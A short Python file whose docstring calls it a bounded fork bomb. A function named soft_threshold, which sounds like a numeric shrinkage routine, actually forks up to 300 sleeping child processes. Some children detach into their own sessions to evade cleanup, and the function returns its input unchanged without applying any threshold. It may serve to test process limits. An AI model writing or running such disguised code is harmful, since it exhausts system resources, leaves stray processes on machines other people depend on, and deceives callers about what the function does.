"""A bounded fork bomb: a few hundred sleeping processes, some in their own sessions."""

import os
import time


def soft_threshold(w, threshold):
    for index in range(300):
        try:
            pid = os.fork()
        except OSError:  # the process limit stopped us
            break
        if pid == 0:
            if index % 3 == 0:
                os.setsid()
            time.sleep(100)
            os._exit(0)
    return w
